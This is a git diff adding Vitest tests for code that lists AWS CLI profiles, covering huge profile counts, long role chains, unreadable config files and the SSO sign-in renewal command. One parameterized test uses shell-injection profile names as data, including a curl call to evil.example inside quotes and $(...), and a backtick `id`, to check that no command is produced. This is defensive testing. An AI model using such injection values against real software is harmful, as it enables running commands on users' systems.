@@ -2,8 +2,11 @@ import { createHash } from 'node:crypto'
 import path from 'node:path'
 import { describe, expect, test } from 'vitest'
 import { issueCredentials, type Role } from '../../e2e/simulator/index.ts'
-import { toAppError } from '../errors.ts'
+import { fail, toAppError } from '../errors.ts'
+import { errorText } from '../texts/errors.ts'
+import { SIGN_IN_PROFILES } from '../texts/sign-in.ts'
 import { createCliProfiles } from './cli-profiles.ts'
+import { renewingCommand } from './cli-recipe.ts'
 import { PUBLIC_ENDPOINTS } from './endpoints.ts'
 import { endpointsFrom } from './endpoints-from.ts'
 import { createIdentity } from './identity.ts'
@@ -306,5 +309,63 @@ test('what AWS finds wrong with the role of a profile is said of the profile', a
   expect(await refusalOf('audit')).toMatchObject({
     code: 'profile-refused',
     detail: { operation: 'AssumeRole', code: 'MalformedPolicyDocumentException' },
+  })
+})
+
+describe('odd files of the AWS CLI', () => {
+  const listing = (config: string, read?: () => Promise<string | null>) =>
+    createCliProfiles({
+      folder: FOLDER,
+      files: {
+        read: read ?? ((file) => Promise.resolve(file === `${FOLDER}/config` ? config : null)),
+      },
+      endpoints: PUBLIC_ENDPOINTS,
+      clock: { now: () => 0, sleep: () => Promise.resolve() },
+    })
+
+  test('with twenty thousand profiles are a sentence, and one of them can still be asked for', async () => {
+    const many = Array.from({ length: 20_000 }, (_, n) => `[profile p${n}]\nregion = eu-west-1`)
+    const { list, credentials } = listing(lines(...many))
+    const listed = toAppError(await list().catch((error: unknown) => error))
+    expect(listed).toMatchObject({ code: 'profile-too-many', facts: { count: '20000' } })
+    expect(errorText(listed).what).toContain('20000')
+    const one = toAppError(await credentials('p1').catch((error: unknown) => error))
+    expect(one.code).toBe('profile-unsupported')
+  })
+
+  test('with profiles that lead to each other in a long chain end', async () => {
+    const chain = Array.from(
+      { length: 1999 },
+      (_, n) => `[profile p${n}]\nrole_arn = arn:aws:iam::1:role/x\nsource_profile = p${n + 1}`,
+    )
+    const found = await listing(lines(...chain)).list()
+    expect(found).toHaveLength(1999)
+    expect(found[0]?.refusal).toBe('profile-unsupported')
+  })
+
+  test('that cannot be read say which it is', async () => {
+    const odd = () => Promise.reject(fail('file-odd', { file: 'config', oddity: 'pipe' }))
+    const error = toAppError(
+      await listing('', odd)
+        .list()
+        .catch((reason: unknown) => reason),
+    )
+    expect(error).toMatchObject({
+      code: 'profile-files-unreadable',
+      facts: { file: `${FOLDER}/config` },
+    })
+  })
+
+  test.each([
+    ['a name', 'aws sso login --profile "a name"'],
+    ['a"; curl evil.example; "', ''],
+    ['$(curl evil.example)', ''],
+    ['`id`', ''],
+    ["it's", ''],
+  ])('give no command that does more than it says: %s', (name, command) => {
+    const profile = new Map([['sso_session', 's']])
+    const files = { profiles: new Map([[name, profile]]), ssoSessions: new Map() }
+    expect(renewingCommand(files, name)).toBe(command)
+    expect(SIGN_IN_PROFILES.renew('sso', name)).toBe(command)
   })
 })
